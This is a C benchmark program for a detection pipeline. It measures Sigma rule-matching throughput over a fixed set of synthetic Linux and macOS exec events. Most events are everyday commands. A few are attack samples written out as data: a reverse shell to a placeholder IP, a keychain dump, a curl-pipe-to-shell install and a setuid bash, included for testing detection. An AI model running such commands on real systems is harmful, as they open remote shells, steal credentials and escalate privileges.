/*
 * sigma-bench — Sigma matching throughput on one thread.
 *
 *   sigma-bench [-n EVENTS] [RULES_PATH...]
 *
 * Without a path: rules/nightjar, and $NIGHTJAR_SIGMA_DIR/rules/{linux,macos}
 * when that variable names a SigmaHQ checkout.
 * Loads the rules, then matches a fixed mix of synthetic canonical exec
 * events (benign everyday commands and a few attacks, linux via auditd and
 * macOS via eslogger, and bare command lines that fit both OSes) through
 * sigma_view_from_event, round-robin, N times (default 200000), and prints
 * events/s (from CPU time: the machine may be shared) and the hits seen.  Building the view is inside the timed loop,
 * JSON parsing is not (the pipeline parses once for every stage).
 */
#include "sigma.h"
#include "util.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static const char *events[] = {
    "{\"v\":1,\"id\":\"1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"alice\",\"uid\":1000,\"auid\":1000},\"process\":{\"pid\":10,\"ppid\":9,\"path\":\"/usr/bin/git\","
    "\"argv\":[\"git\",\"status\",\"--short\"],\"cmdline\":\"git status --short\",\"cwd\":\"/home/alice/src/app\"},"
    "\"parent\":{\"pid\":9,\"path\":\"/usr/bin/bash\",\"cmdline\":\"bash\"},\"raw\":\"type=EXECVE msg=audit(1.1:1): argc=3 a0=\\\"git\\\" a1=\\\"status\\\" a2=\\\"--short\\\"\"}",
    "{\"v\":1,\"id\":\"2\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"alice\",\"uid\":1000,\"auid\":1000},\"process\":{\"pid\":11,\"ppid\":9,\"path\":\"/usr/bin/grep\","
    "\"argv\":[\"grep\",\"-rn\",\"TODO\",\"src/\"],\"cmdline\":\"grep -rn TODO src/\",\"cwd\":\"/home/alice/src/app\"},"
    "\"parent\":{\"pid\":9,\"path\":\"/usr/bin/bash\"}}",
    "{\"v\":1,\"id\":\"3\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"root\",\"uid\":0,\"auid\":1000},\"process\":{\"pid\":12,\"ppid\":1,\"path\":\"/usr/bin/python3.11\","
    "\"argv\":[\"/usr/bin/python3\",\"/usr/lib/command-not-found\",\"--\",\"sl\"],"
    "\"cmdline\":\"/usr/bin/python3 /usr/lib/command-not-found -- sl\",\"cwd\":\"/root\"},\"parent\":{\"pid\":1,\"path\":\"/usr/lib/systemd/systemd\"}}",
    "{\"v\":1,\"id\":\"4\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"www-data\",\"uid\":33,\"auid\":4294967295},\"process\":{\"pid\":13,\"ppid\":12,\"path\":\"/usr/bin/bash\","
    "\"argv\":[\"bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"],"
    "\"cmdline\":\"bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\",\"cwd\":\"/var/www\"},\"parent\":{\"pid\":12,\"path\":\"/usr/sbin/apache2\"}}",
    "{\"v\":1,\"id\":\"5\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"eslogger\"},"
    "\"user\":{\"name\":\"bob\",\"uid\":501},\"process\":{\"pid\":20,\"ppid\":19,\"path\":\"/bin/ls\","
    "\"argv\":[\"ls\",\"-la\",\"/Users/bob/Downloads\"],\"cmdline\":\"ls -la /Users/bob/Downloads\",\"cwd\":\"/Users/bob\","
    "\"signing_id\":\"com.apple.ls\",\"platform_binary\":true},\"parent\":{\"pid\":19,\"path\":\"/bin/zsh\"}}",
    "{\"v\":1,\"id\":\"6\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"eslogger\"},"
    "\"user\":{\"name\":\"bob\",\"uid\":501},\"process\":{\"pid\":21,\"ppid\":19,\"path\":\"/usr/bin/osascript\","
    "\"argv\":[\"osascript\",\"-e\",\"display notification \\\"build done\\\"\"],"
    "\"cmdline\":\"osascript -e display notification \\\"build done\\\"\",\"cwd\":\"/Users/bob\"},\"parent\":{\"pid\":19,\"path\":\"/bin/zsh\"}}",
    "{\"v\":1,\"id\":\"7\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"eslogger\"},"
    "\"user\":{\"name\":\"bob\",\"uid\":501},\"process\":{\"pid\":22,\"ppid\":19,\"path\":\"/usr/bin/security\","
    "\"argv\":[\"security\",\"dump-keychain\",\"-d\",\"login.keychain\"],\"cmdline\":\"security dump-keychain -d login.keychain\"},"
    "\"parent\":{\"pid\":19,\"path\":\"/bin/zsh\"}}",
    "{\"v\":1,\"id\":\"8\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"eslogger\"},"
    "\"user\":{\"name\":\"bob\",\"uid\":501},\"process\":{\"pid\":23,\"ppid\":19,\"path\":\"/Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild\","
    "\"argv\":[\"xcodebuild\",\"-scheme\",\"App\",\"-configuration\",\"Release\",\"build\"],"
    "\"cmdline\":\"xcodebuild -scheme App -configuration Release build\",\"cwd\":\"/Users/bob/src/App\"},\"parent\":{\"pid\":19,\"path\":\"/bin/zsh\"}}",
    "{\"v\":1,\"id\":\"9\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
    "\"process\":{\"argv\":[\"curl\",\"-fsSL\",\"https://example.com/install.sh\",\"|\",\"sh\"],\"cmdline\":\"curl -fsSL https://example.com/install.sh | sh\"}}",
    "{\"v\":1,\"id\":\"10\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
    "\"process\":{\"argv\":[\"docker\",\"run\",\"--rm\",\"-it\",\"-v\",\"/srv/data:/data\",\"postgres:16\"],\"cmdline\":\"docker run --rm -it -v /srv/data:/data postgres:16\"}}",
    "{\"v\":1,\"id\":\"11\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"alice\",\"uid\":1000,\"auid\":1000},\"process\":{\"pid\":30,\"ppid\":9,\"path\":\"/usr/bin/make\","
    "\"argv\":[\"make\",\"-j2\",\"CFLAGS=-O2 -g -Wall\"],\"cmdline\":\"make -j2 CFLAGS=-O2 -g -Wall\",\"cwd\":\"/home/alice/src/app\"},"
    "\"parent\":{\"pid\":9,\"path\":\"/usr/bin/bash\"}}",
    "{\"v\":1,\"id\":\"12\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
    "\"user\":{\"name\":\"root\",\"uid\":0,\"auid\":1000},\"process\":{\"pid\":31,\"ppid\":30,\"path\":\"/usr/bin/chmod\","
    "\"argv\":[\"chmod\",\"u+s\",\"/bin/bash\"],\"cmdline\":\"chmod u+s /bin/bash\",\"cwd\":\"/tmp\"},\"parent\":{\"pid\":30,\"path\":\"/usr/bin/sudo\"}}",
};

int main(int argc, char **argv) {
    long n = 200000;
    int a = 1;
    if (a + 1 < argc && !strcmp(argv[a], "-n")) { n = atol(argv[a + 1]); a += 2; }
    if (n <= 0) { fprintf(stderr, "usage: sigma-bench [-n EVENTS] [RULES_PATH...]\n"); return 2; }
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    if (!rs) return 1;
    /* No path: the team pack, plus a SigmaHQ checkout's linux and macos
     * rules when NIGHTJAR_SIGMA_DIR names one (as `make sigma-bench` runs). */
    char def[3][1024];
    const char *paths[3];
    int np = 0;
    if (a >= argc) {
        const char *sd = getenv("NIGHTJAR_SIGMA_DIR");
        paths[np++] = "rules/nightjar";
        if (sd && *sd) {
            snprintf(def[1], sizeof def[1], "%s/rules/linux", sd);
            snprintf(def[2], sizeof def[2], "%s/rules/macos", sd);
            paths[np++] = def[1];
            paths[np++] = def[2];
        }
    }
    for (int i = 0; i < np; i++)
        if (sigma_load_path(rs, paths[i]) < 0) { fprintf(stderr, "sigma-bench: %s\n", nj_last_error()); return 1; }
    for (; a < argc; a++)
        if (sigma_load_path(rs, argv[a]) < 0) { fprintf(stderr, "sigma-bench: %s\n", nj_last_error()); return 1; }
    int ne = (int)NJ_ARRAY_LEN(events);
    json_t *ev[NJ_ARRAY_LEN(events)];
    for (int i = 0; i < ne; i++) {
        json_error_t je;
        ev[i] = json_loads(events[i], 0, &je);
        if (!ev[i]) { fprintf(stderr, "sigma-bench: event %d: %s\n", i, je.text); return 1; }
    }
    long hits = 0;
    sigma_hit h[16];
    double t0 = nj_now();
    clock_t c0 = clock();
    for (long i = 0; i < n; i++) {
        sigma_json_ctx ctx;
        sigma_event_view v;
        sigma_view_from_event(&v, &ctx, ev[i % ne]);
        hits += sigma_match(rs, &v, h, 16);
    }
    double dt = nj_now() - t0;
    double cpu = (double)(clock() - c0) / CLOCKS_PER_SEC;
    /* CPU time is the honest figure on a shared machine; wall time is shown too. */
    printf("rules %d (skipped %d), events %ld, hits %ld: %.0f events/s (%.2f us/event CPU); wall %.3f s (%.0f events/s)\n",
           sigma_rule_count(rs), sigma_skip_count(rs), n, hits, (double)n / cpu, 1e6 * cpu / (double)n,
           dt, (double)n / dt);
    for (int i = 0; i < ne; i++) {
        sigma_json_ctx ctx;
        sigma_event_view v;
        sigma_view_from_event(&v, &ctx, ev[i]);
        int k = sigma_match(rs, &v, h, 16);
        for (int j = 0; j < k && j < 16; j++) printf("  event %d: %s [%s]\n", i + 1, h[j].title, sigma_level_name(h[j].level));
        json_decref(ev[i]);
    }
    sigma_rules_free(rs);
    return 0;
}
